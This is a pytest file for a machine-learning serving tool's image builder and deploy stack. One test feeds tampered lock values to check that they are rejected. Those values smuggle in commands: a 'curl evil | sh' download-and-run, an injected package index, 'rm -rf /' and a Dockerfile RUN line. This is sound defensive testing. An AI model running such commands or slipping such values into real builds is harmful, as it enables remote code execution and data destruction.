"""`textops build image` and the deploy/ stack, tested as far as this machine allows: no
container engine runs here (see docs/deploy.md), so the build context's contents are checked,
the compose file's references resolve, and every metric the Grafana dashboard queries is one
the service really exports."""

from __future__ import annotations

import json
import re
from pathlib import Path

import yaml
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from tests.conftest import Registered
from textops.cli import app

DEPLOY = Path(__file__).parents[2] / "deploy"


def test_build_context_for_a_registered_model(registered: Registered, tmp_path: Path) -> None:
    out = tmp_path / "image"
    res = CliRunner().invoke(
        app,
        [
            "build",
            "image",
            f"models:/{registered.name}@champion",
            "--output",
            str(out),
            "--tracking-uri",
            registered.tracking_uri,
            "--json",
        ],
    )
    assert res.exit_code == 0, res.output
    ctx = json.loads(res.stdout)
    docker = (out / "Dockerfile").read_text()
    base = re.search(r"^ARG BASE=(\S+)$", docker, re.M)
    assert base and re.fullmatch(r"python:\d+\.\d+\.\d+-slim-\w+", base.group(1))  # pinned
    assert re.search(r"^USER textops$", docker, re.M) and "useradd" in docker  # non-root
    assert "HEALTHCHECK" in docker and "/readyz" in docker
    assert '"serve", "/opt/textops/model"' in docker
    # the model's folder and its lock travel with the image
    assert (out / "model" / "MLmodel").is_file()
    assert (out / "model" / "artifacts" / "classifier" / "classifier.json").is_file()
    constraints = (out / "constraints.txt").read_text().splitlines()
    assert any(line.startswith("numpy==") for line in constraints)
    assert not any("+" in line or line.startswith("textops==") for line in constraints)
    assert any(f.startswith("wheels/textops-") for f in ctx["files"])
    # a model without a torch encoder installs no torch (nor sentence-transformers), and the
    # image refuses to listen on 0.0.0.0 without a key
    requirements = (out / "requirements.txt").read_text().splitlines()
    assert any(line.startswith("scikit-learn==") for line in requirements)
    assert any(line.startswith("fastapi==") for line in requirements)  # the serve extra
    assert not any(re.match(r"(torch|sentence-transformers|triton)==", x) for x in requirements)
    assert not any(line.startswith("torch==") for line in constraints)
    assert "torch" not in docker and ctx["torch"] is False
    assert '"--api-key-env", "TEXTOPS_API_KEY"' in docker
    # the copied folder is a model the service loads as it is
    from textops.serve import ServeSettings, create_app

    settings = ServeSettings(
        model_uri=str(out / "model"),
        home=str(registered.home),
        tracking_uri=registered.tracking_uri,
        poll_seconds=0,
        monitor=False,
    )
    with TestClient(create_app(settings)) as client:
        assert client.get("/readyz").status_code == 200
        r = client.post("/v1/predict", json={"texts": ["goal team match"]})
        assert r.status_code == 200 and r.json()["predictions"][0]["label"]


TORCH_BLOCKER = """
import importlib.abc, sys
class _Block(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[0] in ("torch", "sentence_transformers", "triton"):
            raise ModuleNotFoundError(f"No module named {name!r} (not in the image)")
        return None
sys.meta_path.insert(0, _Block())
"""

SERVE_WITHOUT_TORCH = """
import sys
from fastapi.testclient import TestClient
from textops.serve import ServeSettings, create_app
s = ServeSettings(model_uri=sys.argv[1], home=sys.argv[2], poll_seconds=0, monitor=False)
with TestClient(create_app(s)) as client:
    assert client.get("/readyz").status_code == 200, client.get("/readyz").text
    r = client.post("/v1/predict", json={"texts": ["goal team match"]})
    assert r.status_code == 200, r.text
    print(r.json()["predictions"][0]["label"])
"""


def test_the_torch_free_image_really_serves_without_torch(
    registered: Registered, tmp_path: Path
) -> None:
    """What the image of a TF-IDF-like model holds is enough: the copied folder is served in a
    process where torch cannot be imported."""
    import os
    import subprocess
    import sys

    out = tmp_path / "image"
    from textops.serve import write_build_context

    write_build_context(f"models:/{registered.name}@champion", out, registered.tracking_uri)
    site = tmp_path / "site"
    site.mkdir()
    (site / "sitecustomize.py").write_text(TORCH_BLOCKER)
    env = {**os.environ, "PYTHONPATH": str(site), "TEXTOPS_HOME": str(tmp_path / "h")}
    r = subprocess.run(
        [sys.executable, "-c", SERVE_WITHOUT_TORCH, str(out / "model"), str(tmp_path / "h")],
        env=env, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert r.returncode == 0, r.stderr[-2000:]
    assert r.stdout.strip() in ("money", "sport", "tech")


def _tampered(registered: Registered, tmp_path: Path, packages: dict[str, str]) -> Path:
    """A copy of the registered model whose env_lock.json holds ``packages``."""
    import shutil

    from textops.track import download_model

    folder = tmp_path / "tampered"
    shutil.copytree(
        download_model(f"models:/{registered.name}@champion", registered.tracking_uri), folder
    )
    lock = folder / "artifacts" / "classifier" / "env_lock.json"
    lock.write_text(json.dumps({**json.loads(lock.read_text()), "packages": packages}))
    return folder


def test_a_tampered_lock_is_refused_not_run(registered: Registered, tmp_path: Path) -> None:
    """A version that is a shell command, or a name with a newline that adds a package index,
    never reaches a RUN line or a pip file."""
    out = tmp_path / "image"
    for packages in (
        {"numpy": "2.3.0", "torch": "2.13.0 && sh -c 'curl evil | sh'"},
        {"numpy\n--extra-index-url http://evil/": "2.3.0"},
        {"numpy": "2.3.0; rm -rf /"},
    ):
        folder = _tampered(registered, tmp_path, packages)
        res = CliRunner().invoke(app, ["build", "image", str(folder), "--output", str(out)])
        assert res.exit_code == 2, res.output
        assert "PEP 508 / PEP 440" in res.output and "Traceback" not in res.output
        assert not (out / "Dockerfile").exists()
        import shutil

        shutil.rmtree(folder)
    res = CliRunner().invoke(
        app, ["build", "image", f"models:/{registered.name}@champion", "--output", str(out),
              "--tracking-uri", registered.tracking_uri, "--base", "python:3.11\nRUN id"],
    )  # fmt: skip
    assert res.exit_code == 2 and "not an image reference" in res.output


def test_safe_pins_keeps_releases_and_drops_local_tags() -> None:
    from textops.errors import ConfigError
    from textops.serve import safe_pins

    assert safe_pins({"torch": "2.13.0+cpu", "Scikit_Learn": "1.7.2"}) == {
        "torch": "2.13.0",
        "scikit-learn": "1.7.2",
    }
    import pytest

    with pytest.raises(ConfigError):
        safe_pins({"torch": "2.13.0 --index-url http://x"})


def test_a_torch_model_installs_cpu_torch_from_its_index(
    registered: Registered, tmp_path: Path
) -> None:
    """A model whose encoder runs on torch: torch's CPU build, from torch's own CPU index,
    before anything else (PyPI's Linux torch is the CUDA build); never a ``+cpu`` pin."""
    folder = _tampered(registered, tmp_path, {"numpy": "2.3.0", "torch": "2.13.0+cpu"})
    meta_file = folder / "artifacts" / "classifier" / "classifier.json"
    meta = json.loads(meta_file.read_text())
    meta["embedder"]["key"] = "minilm"
    meta_file.write_text(json.dumps(meta))
    out = tmp_path / "image"
    res = CliRunner().invoke(app, ["build", "image", str(folder), "--output", str(out), "--json"])
    assert res.exit_code == 0, res.output
    docker = (out / "Dockerfile").read_text()
    assert '--index-url https://download.pytorch.org/whl/cpu "torch==2.13.0"' in docker
    assert docker.index("whl/cpu") < docker.index("-r /opt/textops/requirements.txt")
    assert "+cpu" not in docker + (out / "constraints.txt").read_text()
    assert "sentence-transformers==" in (out / "requirements.txt").read_text()
    assert json.loads(res.stdout)["torch"] is True


def test_gpu_training_context(registered: Registered, tmp_path: Path) -> None:
    res = CliRunner().invoke(
        app,
        [
            "build",
            "image",
            f"models:/{registered.name}@champion",
            "--gpu",
            "--output",
            str(tmp_path / "gpu"),
            "--tracking-uri",
            registered.tracking_uri,
        ],
    )
    assert res.exit_code == 0, res.output
    docker = (tmp_path / "gpu" / "Dockerfile").read_text()
    assert "nvidia/cuda:" in docker and "whl/cu" in docker and 'ENTRYPOINT ["textops"]' in docker
    assert not (tmp_path / "gpu" / "model").exists()


def test_compose_stack_references_resolve() -> None:
    compose = yaml.safe_load((DEPLOY / "compose.yaml").read_text())
    assert set(compose["services"]) == {"postgres", "mlflow", "textops", "prometheus", "grafana"}
    for name, svc in compose["services"].items():
        for port in svc.get("ports", []):
            assert port.startswith("127.0.0.1:"), f"{name} publishes beyond loopback: {port}"
        for volume in svc.get("volumes", []):
            source = volume.split(":", 1)[0]
            if source.startswith("./"):
                assert (DEPLOY / source).is_file(), f"{name}: {source} is missing"
    prom = yaml.safe_load((DEPLOY / "prometheus.yml").read_text())
    assert prom["scrape_configs"][0]["static_configs"][0]["targets"] == ["textops:8000"]


def test_grafana_dashboard_queries_metrics_the_service_exports(settings_for) -> None:  # type: ignore[no-untyped-def]
    from textops.serve import create_app

    with TestClient(create_app(settings_for())) as client:
        client.post("/v1/predict", json={"texts": ["goal team match"]})
        families = re.findall(r"^# TYPE (\S+) ", client.get("/metrics").text, re.M)
    exported = {re.sub(r"_(total|bucket|sum|count)$", "", n) for n in families}
    dashboard = json.loads((DEPLOY / "grafana" / "textops.json").read_text())
    exprs = [t["expr"] for p in dashboard["panels"] for t in p["targets"]]
    assert len(exprs) >= 8
    for expr in exprs:
        for name in re.findall(r"\b((?:textops|process)_[a-z_]+)", expr):
            base = re.sub(r"_(total|bucket|sum|count)$", "", name)
            assert base in exported, f"the dashboard queries {name}, which /metrics lacks"
